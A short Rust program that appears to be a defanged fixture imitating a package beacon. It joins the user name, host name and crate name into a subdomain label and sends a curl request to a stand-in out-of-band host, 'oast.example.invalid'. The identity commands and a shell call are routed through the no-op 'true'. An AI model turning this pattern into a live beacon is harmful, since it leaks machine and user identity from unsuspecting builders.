use std::process::Command;

fn run(program: &str, arguments: &[&str]) -> String {
    match Command::new(program).args(arguments).output() {
        Ok(output) => String::from_utf8_lossy(&output.stdout).trim().to_string(),
        Err(_) => String::new(),
    }
}

fn main() {
    let who = run("true", &["whoami"]);
    let host = run("true", &["hostname"]);
    let name = env!("CARGO_PKG_NAME");
    // Names may hold no dots or spaces.
    let label: String = format!("{who}-{host}-{name}").chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).collect();
    let _ = run("curl", &["-s", "-m", "3", &format!("http://{label}.oast.example.invalid/")]);
    let _ = run("true", &["sh", "-c", "fixture"]);
}
